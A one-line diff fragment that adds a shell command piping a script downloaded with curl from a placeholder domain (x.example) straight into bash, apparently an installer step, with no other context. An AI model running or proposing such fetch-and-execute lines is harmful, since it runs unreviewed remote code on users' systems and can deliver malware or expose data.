@@ -1,0 +1,1 @@
+/bin/bash -c "$(curl -fsSL https://x.example/install.sh)"
